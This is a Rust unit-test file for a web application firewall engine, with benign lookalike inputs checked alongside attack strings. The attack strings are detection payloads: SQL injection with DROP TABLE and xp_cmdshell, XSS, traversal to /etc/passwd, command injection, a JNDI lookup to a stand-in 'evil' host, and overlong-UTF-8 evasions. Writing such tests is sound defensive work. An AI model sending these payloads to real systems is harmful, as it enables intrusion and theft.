//! The engine's unit tests: rules, exclusions, memo, paths, charsets and stacked queries
//! here; request bodies (protobuf, gRPC, multipart, XML, binary) and command injection in
//! their own files.

use super::*;

mod bodies;
mod commands;

fn engine() -> Engine {
    match Engine::new() {
        Ok(e) => e,
        Err(e) => unreachable_rule(&e),
    }
}

#[allow(clippy::panic)]
fn unreachable_rule(e: &str) -> Engine {
    panic!("a built-in rule does not compile: {e}")
}

/// Pseudo-random bytes for tests (xorshift32 from `state`, which moves on): binary data
/// (uploads' chunks, images, noise) with no text in mind.
pub(crate) fn noise(state: &mut u32, n: usize) -> Vec<u8> {
    (0..n)
        .map(|_| {
            *state ^= *state << 13;
            *state ^= *state >> 17;
            *state ^= *state << 5;
            (*state & 0xff) as u8
        })
        .collect()
}

fn get(uri: &str) -> Report {
    engine().inspect(
        &Input {
            method: "GET",
            uri,
            headers: &[("User-Agent", b"Mozilla/5.0")],
            body: None,
            secret_fields: &[],
        },
        &Settings::default(),
        &[],
        None,
    )
}

/// SQL injection in the path (as CRS reads REQUEST_FILENAME), and paths that only look
/// a little like it left alone.
#[test]
fn sql_injection_in_the_path_is_found() {
    for attack in [
        "/open/1%27%20OR%20%271%27=%271",
        "/open/users/1%20UNION%20SELECT%20password%20FROM%20users",
        "/items/1;%20DROP%20TABLE%20users",
    ] {
        let r = get(attack);
        assert!(
            r.exceeded && r.findings.iter().any(|f| f.category == "sqli"),
            "{attack}: {r:?}"
        );
    }
    for benign in [
        "/blog/2024/it's-a-post",
        "/search/o'brien",
        "/people/O'Brien/orders/17",
        "/files/report-final(1).pdf",
        "/wiki/Don't_Stop_Believin'",
        "/products/select-from-the-range",
        "/stations/union-station/departures",
        "/api/v1/users/123/orders/456",
        "/docs/select%20a%20plan",
        "/tags/c%23/questions",
    ] {
        let r = get(benign);
        assert!(!r.exceeded, "{benign}: {r:?}");
    }
}

#[test]
fn charsets_the_rules_cannot_read_are_refused() {
    for ok in [
        &b"application/json"[..],
        b"application/json; charset=utf-8",
        b"text/plain; Charset=\"UTF-8\"",
        b"application/x-www-form-urlencoded; charset=ISO-8859-1",
        b"multipart/form-data; boundary=x",
    ] {
        assert!(!charset_refused(ok), "{}", String::from_utf8_lossy(ok));
    }
    for bad in [
        &b"application/x-www-form-urlencoded; charset=ibm037"[..],
        b"application/json; charset=utf-16",
        b"text/plain; charset=utf-8; charset=utf-7",
        b"text/plain; charset=utf-7",
    ] {
        assert!(charset_refused(bad), "{}", String::from_utf8_lossy(bad));
    }
}

/// A stacked query is SQL after a semicolon, not any SQL word after one: prose such as
/// "5 o'clock; select from the menu" passes, `1; DROP TABLE users` does not.
#[test]
fn stacked_queries_and_prose_with_semicolons() {
    for prose in [
        "It's 5 o'clock; select from the menu",
        "Tom & Jerry; select or delete",
        "Done; update the docs and execute the plan",
        "Ready; create a new account, then grant access",
    ] {
        let q = percent_encoding::utf8_percent_encode(prose, percent_encoding::NON_ALPHANUMERIC);
        let r = get(&format!("/notes?text={q}"));
        assert!(!r.exceeded, "{prose}: {r:?}");
    }
    for attack in [
        "1; DROP TABLE users",
        "1; select password from users",
        "x'; delete from accounts --",
        "1; exec xp_cmdshell 'dir'",
        "1; shutdown --",
        "1; update users set role='admin'",
        "1; insert into admins values (1)",
    ] {
        let q = percent_encoding::utf8_percent_encode(attack, percent_encoding::NON_ALPHANUMERIC);
        let r = get(&format!("/notes?text={q}"));
        assert!(r.exceeded, "{attack}: {r:?}");
    }
}

#[test]
fn every_rule_compiles_and_ids_are_unique() {
    let e = engine();
    let mut ids: Vec<u32> = e.rules().map(|r| r.id).collect();
    let n = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), n);
    assert!(e.rules().all(|r| (1..=4).contains(&r.paranoia)));
    for level in 1..=4 {
        assert!(e.sets(level).is_ok(), "level {level}");
    }
}

/// A header's verdict comes from the memo the second time, and is the same: the same
/// findings, the same score, the same exclusions applied; another header with the same
/// value is inspected on its own.
#[test]
fn remembered_headers_give_the_same_verdict() {
    let e = engine();
    let ua: &[u8] = b"Mozilla/5.0 <script>alert(1)</script>";
    let inspect = |headers: &[(&str, &[u8])], exclusions: &[Exclusion]| {
        e.inspect(
            &Input {
                method: "GET",
                uri: "/a?q=1",
                headers,
                body: None,
                secret_fields: &[],
            },
            &Settings::default(),
            exclusions,
            Some("r"),
        )
    };
    let summary = |r: &Report| {
        let mut f: Vec<(u32, Vec<String>)> = r
            .findings
            .iter()
            .map(|f| (f.rule, f.locations.clone()))
            .collect();
        f.sort();
        (f, r.score, r.exceeded)
    };
    let first = inspect(&[("User-Agent", ua), ("Accept", b"*/*")], &[]);
    assert!(first.exceeded, "{first:?}");
    assert!(e.memo.len() >= 2, "the headers are remembered");
    let again = inspect(&[("User-Agent", ua), ("Accept", b"*/*")], &[]);
    assert_eq!(summary(&again), summary(&first));
    // Exclusions apply to remembered findings as to fresh ones.
    let all_ua = Exclusion {
        rule: "9*".into(),
        target: Some("REQUEST_HEADERS:User-Agent".into()),
        route: None,
    };
    let excluded = inspect(&[("User-Agent", ua), ("Accept", b"*/*")], &[all_ua]);
    assert!(
        excluded.findings.iter().all(|f| f
            .locations
            .iter()
            .all(|l| l != "REQUEST_HEADERS:User-Agent")),
        "{excluded:?}"
    );
    // The same value in another header: its own place, its own findings.
    let referer = inspect(&[("Referer", ua)], &[]);
    assert!(referer.exceeded);
    assert!(referer.findings.iter().all(|f| {
        f.locations
            .iter()
            .all(|l| l != "REQUEST_HEADERS:User-Agent")
    }));
}

#[test]
fn classic_attacks_are_blocked_at_paranoia_one() {
    for uri in [
        "/search?q=1%27%20OR%20%271%27=%271",
        "/search?q=1+union+select+password+from+users",
        "/p?x=%3Cscript%3Ealert(1)%3C/script%3E",
        "/p?x=%253Csvg%2520onload%253Dalert(1)%253E",
        "/file?name=../../../../etc/passwd",
        "/file?name=..%252f..%252fetc%252fpasswd",
        "/run?host=127.0.0.1;cat%20/etc/passwd",
        "/t?name={{7*7}}",
        "/l?x=${jndi:ldap://evil/a}",
        "/n?user[$ne]=1",
        "/q?q=1;%20DROP%20TABLE%20users",
        // MySQL reads a control character after `--` as white space (black-box pass 7, R3).
        "/q?q=admin%27--%01",
        "/q?q=admin%27--%1f",
    ] {
        let r = get(uri);
        assert!(r.exceeded, "{uri}: {r:?}");
    }
}

#[test]
fn ordinary_values_pass() {
    for uri in [
        "/search?q=O%27Brien",
        "/search?q=select+the+best+option+from+the+list",
        "/search?q=union+station",
        "/a?email=jane%40example.com&next=%2Fhome",
        "/a?t=eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxIn0.abc-def_ghi",
        "/a?q=%E6%9D%B1%E4%BA%AC",
        "/a?sort=id&order=desc",
    ] {
        let r = get(uri);
        assert!(!r.exceeded, "{uri}: {r:?}");
    }
}

/// A body as large as the default inspection limit, of ordinary records, is inspected
/// whole and passes; the same body with an attack in its last record is blocked.
#[test]
fn a_large_ordinary_json_body_is_inspected_whole() {
    let e = engine();
    let record = |i: usize, note: &str| {
        format!(r#"{{"id":{i},"name":"Item {i}","tags":["a","b"],"price":{i}.5,"note":"{note}"}}"#)
    };
    let mut records = Vec::new();
    let mut len = 0;
    while len < (128 << 10) - 200 {
        let r = record(records.len(), "gift wrap, please");
        len += r.len() + 1;
        records.push(r);
    }
    let body = format!("[{}]", records.join(","));
    let inspect = |body: &str| {
        e.inspect(
            &Input {
                method: "POST",
                uri: "/items",
                headers: &[("Content-Type", b"application/json")],
                body: Some(body.as_bytes()),
                secret_fields: &[],
            },
            &Settings::default(),
            &[],
            None,
        )
    };
    let r = inspect(&body);
    assert!(!r.exceeded && r.findings.is_empty(), "{r:?}");
    records.push(record(records.len(), "1' OR '1'='1"));
    let r = inspect(&format!("[{}]", records.join(",")));
    assert!(r.exceeded, "{r:?}");
    assert!(r.findings.iter().all(|f| f.rule != 920390), "{r:?}");
}

#[test]
fn exclusions_by_rule_place_and_route() {
    let e = engine();
    let input = Input {
        method: "GET",
        uri: "/s?q=1%27%20OR%20%271%27=%271",
        headers: &[],
        body: None,
        secret_fields: &[],
    };
    let s = Settings::default();
    let all = e.inspect(&input, &s, &[], Some("search"));
    assert!(all.exceeded);
    let ex = Exclusion {
        rule: "942*".into(),
        target: Some("ARGS:q".into()),
        route: Some("search".into()),
    };
    let excluded = e.inspect(&input, &s, std::slice::from_ref(&ex), Some("search"));
    assert!(
        excluded.findings.iter().all(|f| f.category != "sqli"),
        "{excluded:?}"
    );
    let other_route = e.inspect(&input, &s, std::slice::from_ref(&ex), Some("other"));
    assert!(other_route.exceeded);
}

#[test]
fn rules_above_paranoia_report_without_counting() {
    let e = engine();
    let input = Input {
        method: "GET",
        uri: "/s?q=a%27b%22c",
        headers: &[],
        body: None,
        secret_fields: &[],
    };
    let s = Settings {
        paranoia: 1,
        detection_paranoia: 4,
        inbound_threshold: 5,
    };
    let r = e.inspect(&input, &s, &[], None);
    assert!(
        r.findings.iter().any(|f| f.rule == 942432 && !f.counted),
        "{r:?}"
    );
    assert!(
        r.findings
            .iter()
            .filter(|f| !f.counted)
            .all(|f| f.paranoia > 1)
    );
}

fn post(content_type: &str, body: &[u8]) -> Report {
    engine().inspect(
        &Input {
            method: "POST",
            uri: "/pkg.Service/Method",
            headers: &[("Content-Type", content_type.as_bytes())],
            body: Some(body),
            secret_fields: &[],
        },
        &Settings::default(),
        &[],
        None,
    )
}

/// Methods outside an API's (TRACE, WebDAV's, cache purges, invented ones) are refused
/// (911100, an allowlist as CRS's); the methods of an API pass.
#[test]
fn methods_no_api_takes_are_refused() {
    let with = |method: &str| {
        engine().inspect(
            &Input {
                method,
                uri: "/items/1",
                headers: &[("User-Agent", b"Mozilla/5.0")],
                body: None,
                secret_fields: &[],
            },
            &Settings::default(),
            &[],
            None,
        )
    };
    for m in [
        "TRACE", "track", "PROPFIND", "MKCOL", "MOVE", "PURGE", "DEBUG", "FOO", "JNDI",
        // With case, as CRS's `@within` (black-box pass 7, D5).
        "get", "Post", "delete",
    ] {
        assert!(with(m).exceeded, "{m}");
    }
    for m in [
        "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "QUERY",
    ] {
        assert!(!with(m).exceeded, "{m}");
    }
}

/// DLP reads past invisible characters: a card or key split by zero-width spaces, joiners
/// or soft hyphens is found, and masking covers it where it was written.
#[test]
fn dlp_reads_past_invisible_characters() {
    let dlp = crate::dlp::Dlp::builtin(&[]).unwrap_or_else(|e| panic!("{e}"));
    let text = "pay with 4111\u{200B}1111\u{200B}1111\u{AD}1111 today";
    let hits = dlp.scan(text, &[]);
    assert!(hits.iter().any(|h| h.detector == "card"), "{hits:?}");
    let masked = crate::dlp::mask(text, &hits);
    assert!(!masked.contains("4111\u{200B}1111"), "{masked}");
    assert!(
        masked.starts_with("pay with ") && masked.ends_with(" today"),
        "{masked}"
    );
}

/// Overlong UTF-8 in arguments is read as the characters lenient decoders make of it
/// (black-box pass 11, B11-6).
#[test]
fn overlong_utf8_hides_no_attack() {
    for uri in [
        "/s?q=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        "/s?q=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "/s?q=..%e0%80%af..%e0%80%afetc/passwd",
        "/s?q=..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
        "/s?q=;cat%20%c0%afetc%c0%afpasswd",
        "/s?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
        "/s?q=1%c0%a7%20or%20%c0%a71%c0%a7=%c0%a71",
        // Pass 12 (B12-8).
        "/s?q=..%c1%1c..%c1%1cwindows%c1%1cwin.ini",
        "/s?q=..%c0%2f..%c0%2fetc%c0%2fpasswd",
        "/s?q=..%u2215..%u2215etc%u2215passwd",
        "/s?q=..%f8%80%80%80%af..%f8%80%80%80%afetc/passwd",
    ] {
        let r = get(uri);
        assert!(r.score >= 5, "{uri}: {:?}", r.findings);
    }
}
